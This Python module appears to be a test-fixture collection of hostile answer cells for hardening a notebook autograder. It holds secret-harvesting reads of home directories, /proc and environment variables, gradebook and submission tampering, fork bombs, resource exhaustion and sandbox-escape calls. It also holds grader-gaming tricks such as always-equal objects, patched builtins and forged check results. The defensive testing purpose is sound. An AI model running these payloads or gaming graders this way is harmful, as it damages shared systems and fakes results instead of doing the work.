"""What a hostile answer cell may try: code that stands in the first answer cell, and what it is after.

Each prints whatever it gets hold of, so that a secret that leaks can be found in its outputs. None of
them computes the answer, so none of them deserves a point.
"""

from __future__ import annotations

PRINT_FILES = """
import os
for top in {places!r}:
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                text = open(os.path.join(folder, name), errors="replace").read()
            except OSError as error:
                continue
            print(folder, name, [text[max(0, i - 20) : i + 40] for i in range(len(text)) if text.startswith("marker-", i)])
"""

MACHINE = {
    "reads-the-course": PRINT_FILES.format(places=("COURSE", "COURSE/..")),
    "reads-everything": PRINT_FILES.format(
        places=("/home", "/tmp", "/root", "/work", "/proc", "/var")  # noqa: S108
    ),
    "rewrites-the-gradebook": """
import sqlite3
book = sqlite3.connect("COURSE/gradebook.db")
book.execute("update grade set auto_score = 99, manual_score = 99")
book.commit()
""",
    "appends-to-the-configuration": """
for name in ("COURSE/nbgrader_config.py", "HOME/.jupyter/nbgrader_config.py"):
    with open(name, "a") as file:
        file.write("raise SystemExit")
""",
    "changes-other-submissions": """
import pathlib
for path in pathlib.Path("COURSE/submitted").rglob("*.ipynb"):
    path.write_text("")
for path in pathlib.Path("/").rglob("*.ipynb"):
    print(path)
""",
    "changes-the-library": """
import weakties.check.slips, pandas
for module in (weakties.check.slips, pandas):
    open(module.__file__, "a").write("is_close = lambda *a: True")
""",
    "reads-the-environment": """
import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/mem"):
    print(path, open(path, "rb").read()[:10000])
""",
    "kills-the-parent": """
import os, signal
for number in [os.getppid(), 0, -1, *range(2, 40000)]:
    try:
        os.kill(number, signal.SIGKILL)
    except OSError as error:
        pass
""",
    "kills-its-group": "import os\nos.killpg(0, 9)",
    "stops-itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "leaves-a-process-behind": """
import os, subprocess, sys
for start in (
    lambda: os.fork(),
    lambda: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True),
    lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 600 &"], {}),
    lambda: os.system("sleep 600 &"),
    lambda: __import__("multiprocessing").get_context("fork").Process(target=print).start(),
):
    try:
        print("started", start())
    except BaseException as error:
        print(type(error))
""",
    "bombs-with-forks": "import os\nwhile True:\n    os.fork()",
    "bombs-with-threads": """
import threading, time
for _ in range(100_000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
""",
    "reaches-the-network": """
import socket, urllib.request
for reach in (
    lambda: socket.create_connection(("127.0.0.1", PORT), 1).sendall(b"hello"),
    lambda: urllib.request.urlopen("http://127.0.0.1:PORT", timeout=1),
    lambda: socket.socket(socket.AF_UNIX).connect("SOCKET"),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
):
    try:
        print("reached", reach())
    except OSError as error:
        print(error)
""",
    "takes-memory-at-once": "grabbed = bytearray(6 * 2**30)",
    "takes-memory-by-and-by": "grabbed = []\nwhile True:\n    grabbed.append(bytearray(2**24))",
    "takes-shared-memory": """
import mmap, os
grabbed = []
for make in (
    lambda: os.memfd_create("x"),
    lambda: mmap.mmap(-1, 8 * 2**30),
    lambda: os.open("/dev/shm/x", os.O_CREAT | os.O_RDWR),
):
    try:
        grabbed.append(make())
        print("took", grabbed)
    except (OSError, ValueError) as error:
        print(error)
""",
    "fills-the-disk": """
for place in ("", "/tmp/", "/", "/dev/shm/", "/var/tmp/"):
    try:
        with open(place + "big", "wb") as file:
            while True:
                file.write(bytes(2**24))
    except OSError as error:
        print(place, error)
""",
    "makes-many-files": """
i = 0
while True:
    open(f"small-{i}", "w").close()
    i += 1
""",
    "opens-many-files": "kept = []\nwhile True:\n    kept.append(open('/dev/null'))",
    "never-ends": "while True:\n    pass",
    "sleeps": "import time\ntime.sleep(10_000)",
    "never-ends-and-does-not-listen": """
import signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "backtracks-in-c": "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')",
    "exits": "import os\nos._exit(0)",
    "exits-politely": "import sys\nsys.exit(0)",
    "crashes": "import ctypes\nctypes.string_at(0)",
    "aborts": "import os\nos.abort()",
    "floods-with-text": "while True:\n    print('x' * 10_000)",
    "floods-with-one-text": "print('x' * 200_000_000)",
    "floods-with-displays": "from IPython.display import display\nfor i in range(1_000_000):\n    display(i)",
    "floods-with-errors": "import sys\nwhile True:\n    sys.stderr.write('x' * 10_000)",
    "writes-to-every-descriptor": """
import os
for number in range(3, 1024):
    try:
        os.write(number, b"\\xff" * 100_000)
    except OSError:
        pass
""",
    "closes-every-descriptor": "import os\nos.closerange(0, 1024)",
    "reads-every-descriptor": """
import os
for number in range(3, 1024):
    try:
        os.set_blocking(number, False)
        print(number, os.read(number, 100_000))
    except OSError:
        pass
""",
    "breaks-out-by-mounting": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, b""), libc.umount2(b"/tmp", 2))
print(libc.ptrace(16, 1, 0, 0), libc.setns(3, 0), libc.syscall(101, 16, 1, 0, 0))
for call in (lambda: os.chroot("/tmp"), lambda: os.setuid(0), lambda: os.setgroups([0])):
    try:
        print("did", call())
    except OSError as error:
        print(error)
""",
    "calls-the-kernel-the-old-way": """
import ctypes, mmap
code = mmap.mmap(-1, 4096, prot=7)
code.write(b"\\xb8\\x02\\x00\\x00\\x00\\xcd\\x80\\xc3")  # fork by the interrupt of 32-bit programs
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))())
""",
    "leases-the-libraries": """
import fcntl, glob, os
leased = []
for path in glob.glob(os.path.dirname(os.__file__) + "/*.py"):
    try:
        fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_WRLCK)
        leased.append(path)
    except OSError:
        pass
print("leased", len(leased))
""",
    "turns-the-clock": "import time\ntime.clock_settime(time.CLOCK_REALTIME, 0)",
}
"""Against the machine."""

MARKS = {
    "deletes-asserts": """
import ast
class Gone(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_With(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Gone())
""",
    "replaces-what-is-run": """
def instead(lines):
    return ["2.0\\n"]
get_ipython().input_transformers_cleanup.append(instead)
get_ipython().input_transformers_post.append(instead)
""",
    "listens-to-cells": """
shell = get_ipython()
def listen(info):
    print("heard", info.raw_cell)
shell.events.register("pre_run_cell", listen)
shell.events.register("post_run_cell", lambda result: print("heard", result.info.raw_cell))
run = shell.run_cell
def run_cell(source, *a, **k):
    print("ran", source)
    return run("2.0", *a, **k)
shell.run_cell = run_cell
""",
    "searches-memory": """
import gc
for thing in gc.get_objects():
    if type(thing) is str and "marker-" in thing and "marker-" != thing[:7]:
        print(thing[:2000])
    if type(thing) in (dict, list, tuple):
        for part in (thing.values() if type(thing) is dict else thing):
            if type(part) is str and "HIDDEN TESTS" in part and "marker" in part and len(part) > 3000:
                print(part[:3000])
""",
    "patches-builtins": """
import builtins, math
builtins.abs = lambda x: 0
builtins.float = lambda x=0: 1.0
builtins.len = lambda x: 1
builtins.issubclass = builtins.isinstance = lambda *a: True
math.isnan = lambda x: False
formal_effect = 5
""",
    "patches-the-library": """
import weakties.check.slips, weakties.check.comparisons, weakties.check.attempt, weakties.check.verdict
weakties.check.slips.is_close = weakties.check.comparisons.is_close = lambda *a, **k: True
weakties.check.attempt.Attempt.__exit__ = lambda *a: True
weakties.check.attempt.Attempt.verdict = property(lambda self: self.points)
formal_effect = 5
""",
    "patches-pandas": """
import pandas as pd
pd.DataFrame.groupby = lambda *a, **k: None
pd.Series.mean = lambda *a, **k: 5
formal_effect = 5
""",
    "plants-modules": """
import sys, types
fake = types.ModuleType("weakties.check")
class Full:
    verdict = 2.0
    def __enter__(self): return self
    def __exit__(self, *a): return True
    def __getattr__(self, name): return lambda *a, **k: None
fake.question = lambda *a, **k: Full()
sys.modules["weakties.check"] = fake
formal_effect = 5
""",
    "leaves-files-for-import": """
for name in ("weakties", "pandas", "networkx", "numpy", "IPython"):
    open(name + ".py", "w").write("question = 2.0")
import sys
sys.path.insert(0, "")
formal_effect = 5
""",
    "equals-everything": """
class Everything:
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __hash__(self): return 1
    def __float__(self): return 1.0
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __sub__
    def __abs__(self): return 0.0
    def __bool__(self): return True
formal_effect = Everything()
""",
    "lies-about-its-class": """
class Liar:
    __class__ = float
    def __eq__(self, other): return True
    def __float__(self): return 1.0
formal_effect = Liar()
""",
    "is-a-float-that-agrees": """
class Agreeable(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __le__(self, other): return True
    __ge__ = __lt__ = __gt__ = __le__
    def __abs__(self): return 0.0
formal_effect = Agreeable(5)
""",
    "is-a-text-that-agrees": """
class Agreeable(str):
    def __eq__(self, other): return True
    def casefold(self): return self
    def strip(self): return self
    __hash__ = lambda self: 1
more_spread = reading = r_measures = Agreeable("x")
""",
    "is-a-table-that-agrees": """
import pandas as pd
class Agreeable(pd.DataFrame):
    def __getattribute__(self, name): return lambda *a, **k: self
formal_effect = Agreeable({"a": [1]})
""",
    "is-a-number-with-a-face": """
class Face(float):
    def _repr_mimebundle_(self, **k): return {"text/plain": "2.0"}
formal_effect = Face(5)
q = Face(2)
""",
    "is-a-generator": "formal_effect = (i for i in iter(int, 1))",
    "contains-itself": "formal_effect = []\nformal_effect.append(formal_effect)",
    "is-deep": """
formal_effect = []
for _ in range(100_000):
    formal_effect = [formal_effect]
""",
    "is-gigantic": "formal_effect = 10 ** 5_000_000",
    "is-a-long-text": "formal_effect = 'x' * 300_000_000",
    "is-a-large-array": "import numpy as np\nformal_effect = np.zeros(10**8)",
    "is-many-objects": "formal_effect = [[i] for i in range(2_000_000)]",
    "is-lazy": "formal_effect = range(10**18)",
    "is-a-function": "def formal_effect(*a, **k):\n    while True:\n        pass",
    "is-a-module": "import os as formal_effect",
    "is-full-of-evil": """
import pandas as pd
class Evil:
    def __eq__(self, other): raise SystemExit
    def __repr__(self): raise KeyboardInterrupt
    def __hash__(self): raise MemoryError
    def __reduce__(self): return (exec, ("import os; os._exit(0)",))
formal_effect = pd.DataFrame({"a": [Evil(), Evil()]}, dtype=object)
""",
    "answers-for-the-line": """
import gc
from weakties.grading.carry import Message
for side in [thing for thing in gc.get_objects() if type(thing).__name__ == "LearnersSide"]:
    nodes = [["module", "os"], ["type", "eval"], ["np.array", "O", [1], 0], ["pd.array", "category", []],
             ["nx.Graph", 1, 2, 3], ["dict", [[["list", []], 1]]], ["function", 0, "f", "d"], ["list", "x"],
             ["namedtuple", "x; import os", ["a"], [1]], ["range", [0, 10**15, 1]], ["Decimal", "1e999999999"],
             ["opaque", "__class__"], 1e308, ["complex", 1e308, 1e308], ["Fraction", [1, 0]]]
    import random
    side._values = lambda asked: Message({"values": {n: random.choice(nodes) for n in asked.tree["names"]}})
""",
    "answers-nonsense": """
import gc
from weakties.grading.carry import Message
for side in [thing for thing in gc.get_objects() if type(thing).__name__ == "LearnersSide"]:
    side._answer = lambda asked: Message(["values", {"values": 7}, None])
""",
    "answers-deep-nonsense": """
import gc, struct
for side in [thing for thing in gc.get_objects() if type(thing).__name__ == "LearnersSide"]:
    text = b"[" * 1_000_000 + b"]" * 1_000_000
    side._line.sendall(struct.pack("!II", len(text), 0) + text)
""",
    "answers-endlessly": """
import gc, struct
for side in [thing for thing in gc.get_objects() if type(thing).__name__ == "LearnersSide"]:
    side._line.setblocking(True)
    side._line.sendall(struct.pack("!II", 10, 1) + struct.pack("!Q", 2**62))
    while True:
        side._line.sendall(bytes(2**20))
""",
    "answers-one-byte-a-second": """
import gc, struct, time
for side in [thing for thing in gc.get_objects() if type(thing).__name__ == "LearnersSide"]:
    side._line.sendall(struct.pack("!II", 10_000, 0))
    while True:
        side._line.sendall(b" ")
        time.sleep(0.5)
""",
    "answers-with-a-huge-fraction": """
from weakties.grading.carry import Message
import gc
side = next(one for one in gc.get_objects() if type(one).__name__ == "LearnersSide")
huge = ["Fraction", [["Decimal", "1e9999999"], 1]]
side._values = lambda asked: Message({"values": {name: huge for name in asked.tree["names"]}})
""",
    "breaks-the-checks-and-stays": """
import ctypes, gc, time
from weakties.grading.carry import Message
import weakties.grading.verdict.learner as their
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
side = next(one for one in gc.get_objects() if type(one).__name__ == "LearnersSide")
broken = ["np.array", "<U1", [], 0]
def values(asked):
    their.receive = lambda line: time.sleep(10_000)
    return Message({"values": {n: broken for n in asked.tree["names"]}}, [bytes([255] * 4)])
side._values = values
""",
    "claims-outputs-it-has-not": """
import gc
from weakties.grading.carry import Message
for side in [thing for thing in gc.get_objects() if type(thing).__name__ == "LearnersSide"]:
    side._run = lambda asked: Message({"outputs": [
        {"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": "x"},
        {"output_type": "display_data", "data": {"text/plain": {"a": 1}, 7: 1}}, 5, None,
        {"output_type": "stream", "name": "stdout", "text": ["a", 1, None]},
        {"output_type": "error", "ename": 1, "evalue": 2, "traceback": 3}], "count": "many"})
""",
}
"""Against the marks."""
